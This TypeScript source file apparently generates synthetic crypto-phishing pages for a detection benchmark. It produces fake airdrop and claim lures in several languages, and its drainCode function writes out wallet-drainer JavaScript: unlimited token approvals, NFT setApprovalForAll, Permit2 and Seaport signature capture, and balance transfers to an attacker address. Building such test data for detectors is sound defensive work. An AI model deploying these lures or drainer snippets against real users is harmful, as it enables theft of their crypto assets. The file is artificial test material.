import type { Family } from '../family.ts'
import { brandOf, calledBy } from '../make/brands.ts'
import type { Chance } from '../make/chance.ts'
import { badPlace, urlAt } from '../make/hosts/hosts.ts'
import { kitExtras, wayTo } from '../make/kits/brand-kit.ts'
import { documentOf, escaped } from '../make/pages/layout.ts'

const TOKENS = ['ARB', 'STRK', 'ZK', 'EIGEN', 'JUP', 'BLUR', 'LDO', 'OP', 'ENA', 'PEPE']

const LURES: readonly string[] = [
  'Claim your $TOKEN airdrop',
  'You are eligible for 1,250 $TOKEN',
  'Connect wallet to check your $TOKEN allocation',
  '$TOKEN rewards are live: claim before the deadline',
  'Free mint is live. 4,120 / 5,555 minted',
  'Migrate your $TOKEN to V2 now',
  'Erhalten Sie Ihren $TOKEN Airdrop',
  'Reclama tu airdrop de $TOKEN',
  '$TOKEN エアドロップを受け取る',
  'Réclamez votre airdrop $TOKEN',
  'Resgate seu airdrop de $TOKEN',
  'Revoke malicious approvals and secure your assets',
]

const MAX = '0xffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff'

export const walletDrainer: Family = {
  id: 'wallet_drainer',
  expected: 'dangerous',
  split: 'dev',
  make(chance) {
    const token = chance.of(TOKENS)
    const lure = chance.of(LURES).replace('$TOKEN', `$${token}`)
    const brand = chance.maybe(0.4) ? brandOf(chance, 'exchange') : null
    const name =
      brand === null
        ? `${token} ${chance.of(['Airdrop', 'Claim Portal', 'Foundation', 'Rewards'])}`
        : calledBy(brand, chance)
    const libraries = chance
      .some(
        [
          '<script src="https://cdn.ethers.io/lib/ethers-5.7.2.umd.min.js"></script>',
          '<script src="https://cdn.jsdelivr.net/npm/web3@1.10.0/dist/web3.min.js"></script>',
          '<script src="https://unpkg.com/web3modal@1.9.12/dist/index.js"></script>',
        ],
        2,
      )
      .join('')
    const scripts = `${libraries}<script>${drainCode(chance)}</script>${kitExtras(chance)}`
    const main = `<p>${escaped(lure)}</p><button id="connect" class="btn">${chance.of(['Connect wallet', 'Claim now', 'Mint', 'Claim airdrop', 'Verify wallet'])}</button><p>Ends in <span id="timer">00:59:12</span></p>`
    const body = documentOf(
      {
        language: 'en',
        title: name,
        heading: lure,
        logo: `<img src="logo.svg" alt="${escaped(name)}">`,
        main,
        scripts,
      },
      chance,
    )
    const url = urlAt(badPlace(brand, chance))
    return { url, body, way: wayTo(url, chance), isHonest: false }
  },
}

function drainCode(chance: Chance): string {
  const taker = `0x${chance.hex(40)}`
  const connect = 'const [a]=await window.ethereum.request({method:"eth_requestAccounts"});'
  const wrap = (code: string) => `document.getElementById("connect").onclick=async()=>{${connect}${code}}`
  return chance.of([
    () =>
      wrap(
        `const s=new ethers.providers.Web3Provider(window.ethereum).getSigner();for(const n of await (await fetch("/api/nfts?o="+a)).json()){const c=new ethers.Contract(n.address,["function setApprovalForAll(address,bool)"],s);await c.setApprovalForAll("${taker}",true)}`,
      ),
    () =>
      wrap(
        `for(const t of tokens){await ethereum.request({method:"eth_sendTransaction",params:[{from:a,to:t.address,data:"0x095ea7b3000000000000000000000000${taker.slice(2)}${MAX.slice(2)}"}]})}`,
      ),
    () =>
      wrap(
        `const m={domain:{name:"Permit2",chainId:1,verifyingContract:"0x000000000022D473030F116dDEE9F6B43aC78BA3"},primaryType:"PermitBatch",message:{details:list,spender:"${taker}",sigDeadline:"${MAX}"}};const g=await ethereum.request({method:"eth_signTypedData_v4",params:[a,JSON.stringify(m)]});await fetch("/api/permit",{method:"POST",body:JSON.stringify({a,g})})`,
      ),
    () =>
      wrap(
        `const order={offerer:a,offer:nfts,consideration:[{itemType:0,token:"0x0000000000000000000000000000000000000000",startAmount:"1",endAmount:"1",recipient:"${taker}"}],conduitKey:"0x0000007b02230091a7ed01230072f7006a004d60a8d4e71d599b8104250f0000"};const g=await ethereum.request({method:"eth_signTypedData_v4",params:[a,JSON.stringify({domain:{name:"Seaport",version:"1.5"},primaryType:"OrderComponents",message:order})]});await fetch("/order",{method:"POST",body:g})`,
      ),
    () =>
      `document.getElementById("connect").onclick=async()=>{await window.solana.connect();const k=window.solana.publicKey;const txs=[];for(const b of batches){const t=new solanaWeb3.Transaction();t.add(solanaWeb3.SystemProgram.transfer({fromPubkey:k,toPubkey:new solanaWeb3.PublicKey("${chance.base64(44).replace(/[+/]/g, 'K')}"),lamports:b.all}));txs.push(t)}const s=await window.solana.signAllTransactions(txs);await fetch("/send",{method:"POST",body:JSON.stringify(s)})}`,
    () =>
      wrap(
        `const c=new web3.eth.Contract(abi,t);const bal=await web3.eth.getBalance(a);await c.methods.increaseAllowance("${taker}","${MAX}").send({from:a});await ethereum.request({method:"eth_sendTransaction",params:[{from:a,to:"${taker}",value:bal}]})`,
      ),
  ])()
}
